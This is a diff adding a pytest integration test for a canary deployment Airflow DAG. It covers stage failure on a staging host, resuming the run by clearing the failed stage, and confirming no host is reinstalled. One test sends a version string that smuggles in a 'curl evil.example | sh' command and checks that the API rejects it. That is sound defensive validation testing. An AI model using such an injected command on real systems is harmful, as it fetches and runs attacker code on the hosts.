@@ -1,0 +1,123 @@
+"""deploy_canary through the real scheduler path: REST trigger, LocalExecutor, deferred sensors
+in the triggerer, and a failed stage resumed by clearing it (``liftoff retry``).
+
+A lab of its own (octet 46, ``LIFTOFF_CHATOPS_LAB_OCTET``) and a real Airflow from
+tests/airflow_stack.py. The build first fails to install on one staging web host; the run
+halts at stage 3; the fault is fixed in labd and the stage is cleared through the REST API;
+the same run then goes through canary without reinstalling the hosts already done.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from lab import processes
+from tests.airflow_stack import StackError, airflow_stack
+from tests.labkit import Lab, running_lab
+
+pytestmark = [pytest.mark.airflow, pytest.mark.lab]
+
+OCTET = int(os.environ.get("LIFTOFF_CHATOPS_LAB_OCTET", "46"))
+DAG = "deploy_canary"
+GOOD = "17.6.0+rnightly.101.abcdef2-0"
+FAULTY_HOST = "web-01-sv-gstg"
+STAGE = "stage_3_staging_fleet"
+ENVS = ("gstg", "gprd-cny")
+# The console script pyproject.toml declares (installed by `make setup`).
+LIFTOFF = [str(Path(sys.executable).parent / "liftoff")]
+
+
+@pytest.fixture(scope="module")
+def lab_stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Lab, object]]:
+    with running_lab(tmp_path_factory.mktemp("sched-lab"), OCTET, "--install-seconds", "0.2") as lab:
+        stack_cm = airflow_stack(tmp_path_factory.mktemp("sched-airflow"), lab.env)
+        with stack_cm as stack:
+            stack.wait_until_dag_parsed(DAG)
+            yield lab, stack
+        assert stack.processes() == [], "airflow processes outlived the stack"
+
+
+def hosts(lab: Lab, env: str) -> dict[str, dict]:
+    return {h["name"]: h for h in lab.status()["environments"][env]["hosts"]}
+
+
+def installs(lab: Lab, version: str) -> dict[str, list[int]]:
+    """Exit codes of every ``apt-get install`` of ``version``, per host, from labd's audit log."""
+    out: dict[str, list[int]] = {}
+    log = Path(lab.config.path("state", "audit.log"))
+    for line in log.read_text().splitlines():
+        fields = line.split("\t")
+        if len(fields) >= 5 and "apt-get install" in fields[4] and f"gitlab-ee={version}" in fields[4]:
+            out.setdefault(fields[1], []).append(int(fields[2]))
+    return out
+
+
+def test_invalid_version_is_refused_with_400_and_no_run(lab_stack):
+    _, stack = lab_stack
+    before = {r["dag_run_id"] for r in stack.dag_runs(DAG)}
+    with pytest.raises(StackError) as refused:
+        stack.trigger(DAG, {"version": "17.6.0; curl evil.example | sh", "quiet_period_seconds": 5})
+    assert refused.value.status == 400, refused.value
+    assert "version" in str(refused.value.body)
+    assert {r["dag_run_id"] for r in stack.dag_runs(DAG)} == before
+
+
+def test_failed_stage_is_resumed_by_clearing_it(lab_stack):
+    lab, stack = lab_stack
+    assert FAULTY_HOST in hosts(lab, "gstg")
+    lab.build_add(GOOD, nightly=True, install_fails_on=[FAULTY_HOST])
+
+    run = stack.trigger(DAG, {"version": GOOD, "quiet_period_seconds": 5, "on_failure": "halt"})
+    run_id = run["dag_run_id"]
+    seen: set[tuple[str, str]] = set()
+
+    def remember(_run: dict, states: dict) -> None:
+        seen.update((task, state) for task, state in states.items() if state)
+
+    assert stack.wait_run(DAG, run_id, timeout=600, interval=0.5, on_poll=remember) == "failed"
+    states = stack.task_states(DAG, run_id)
+    assert states[f"{STAGE}.deploy"] == "failed", states
+    assert states["halt"] == "success" and states["rollback"] == "skipped", states
+    assert all(states[t] == "success" for t in states if t.startswith(("stage_1_", "stage_2_"))), states
+    assert all(states[t] == "upstream_failed" for t in states if t.startswith("stage_6_")), states
+    # The quiet periods wait in the triggerer: seen as deferred while they ran.
+    deferred = {task for task, state in seen if state == "deferred"}
+    assert any(t.endswith(".quiet_period") for t in deferred), sorted(seen)
+
+    gstg = hosts(lab, "gstg")
+    assert gstg[FAULTY_HOST]["installed"] != GOOD
+    done_before = {name for name, h in gstg.items() if h["installed"] == GOOD}
+    assert done_before, "no staging host got the build before the failure"
+    assert all(h["installed"] != GOOD for h in hosts(lab, "gprd-cny").values())
+
+    # Fix the fault, then resume the same run: clear the failed stage through the REST API.
+    processes.control(lab.config, "PATCH", f"/builds/{GOOD}", {"install_fails_on": []})
+    retry = subprocess.run([*LIFTOFF, "retry", run_id, "stage_3", "--dag", DAG], env=stack.cli_env(),
+                           capture_output=True, text=True, timeout=120)
+    assert retry.returncode == 0, retry.stdout + retry.stderr
+    assert f"{STAGE}.deploy" in retry.stdout and "cleared" in retry.stdout, retry.stdout
+    cleared = stack.task_states(DAG, run_id)
+    assert cleared[f"{STAGE}.deploy"] not in ("failed", "upstream_failed"), cleared
+    assert cleared[f"{STAGE}.precheck"] == "success", "a task that had passed was cleared"
+
+    assert stack.wait_run(DAG, run_id, timeout=900, interval=1) == "success", stack.task_states(DAG, run_id)
+    final = stack.task_states(DAG, run_id)
+    assert all(final[t] == "success" for t in final if t.startswith("stage_")), final
+
+    for env in ENVS:
+        for name, h in hosts(lab, env).items():
+            assert h["installed"] == GOOD and h["running"] == GOOD, (env, name, h)
+    counts = installs(lab, GOOD)
+    for env in ENVS:
+        for name in hosts(lab, env):
+            ok = [code for code in counts.get(name, []) if code == 0]
+            assert len(ok) == 1, (name, counts.get(name))
+    for name in done_before:
+        assert counts[name] == [0], f"{name} was installed again: {counts[name]}"
+    assert any(code != 0 for code in counts[FAULTY_HOST]), counts[FAULTY_HOST]
